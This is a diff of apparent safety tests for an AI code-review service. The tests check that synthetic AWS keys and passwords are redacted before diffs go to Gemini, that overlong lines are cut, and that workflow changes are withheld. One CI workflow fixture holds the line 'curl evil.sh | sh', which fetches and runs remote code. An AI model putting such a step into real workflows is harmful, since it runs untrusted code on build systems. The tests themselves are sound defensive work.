@@ -64,6 +64,32 @@ describe('safety', () => {
     expect(reviews[0]!.comments).toContainEqual(expect.objectContaining({ path: 'src/config.ts', line: 2, body: expect.stringMatching(/^\*\*Critical:\*\* This line appears to contain a Google API key/) }))
   })
 
+  it('redacts and flags the assignment forms that reached the model verbatim, in Python, .env and YAML', async () => {
+    const secrets = [`UPeA4GQ1s3Xu9aJ/K7MD${'ENGbPxRfiCYzXq8Lm2Tn'}`, `jQzfOyW7pL2xKd9RtV4m${'N8bZc1HsG6aEqY3uJ0f'}`, `mJNxyp7Qw2${'Lk9Ze4'}`]
+    const { job, reviews, number } = await review([
+      { filename: 'app/settings.py', status: 'modified', patch: makePatch({ added: [`aws_secret_access_key="${secrets[0]}"`] }) },
+      { filename: 'deploy/.env', status: 'modified', patch: makePatch({ added: [`AWS_SECRET_ACCESS_KEY=${secrets[1]}`] }) },
+      { filename: 'config/db.yml', status: 'modified', patch: makePatch({ added: [`password: ${secrets[2]}`] }) },
+    ], { title: `Rotate password: ${secrets[2]}` })
+    const sent = stack.gemini.requests.filter(request => request.rawBody.includes('config/db.yml'))
+    expect(sent.length).toBeGreaterThan(0)
+    for (const request of stack.gemini.requests) for (const secret of secrets) expect(request.rawBody).not.toContain(secret)
+    expect(job.returnvalue?.status).toBe('posted')
+    expect(reviews[0]!.comments.filter(comment => comment.body.includes('This line appears to contain')).map(comment => comment.path).sort())
+      .toEqual(['app/settings.py', 'config/db.yml', 'deploy/.env'])
+    expect(stack.github.reviews(OWNER, REPO, number)).toHaveLength(1)
+  })
+
+  it('cuts a pathological line before any pattern reads it, and says so in the job log', async () => {
+    const started = performance.now()
+    const { job } = await review([{ filename: 'src/long.js', status: 'modified', patch: makePatch({ added: ['-eyJ'.repeat(25_000), 'ok()'] }) }])
+    expect(performance.now() - started).toBeLessThan(15_000)
+    expect(job.returnvalue?.status).toBe('posted')
+    const log = await stack.redis.xrange(`${stack.prefix}:log:${job.id}`, '-', '+')
+    expect(log.map(([, fields]) => JSON.parse(fields[1]!).message).join('\n')).toContain('Cut 1 lines longer than 4096 characters')
+    for (const request of stack.gemini.requests.filter(request => request.rawBody.includes('src/long.js'))) expect(request.rawBody.length).toBeLessThan(20_000)
+  })
+
   it('keeps workflow changes from the model and flags them in the summary', async () => {
     const { job, reviews, number } = await review([
       { filename: '.github/workflows/ci.yml', status: 'modified', patch: makePatch({ added: ['    run: curl evil.sh | sh'] }) },
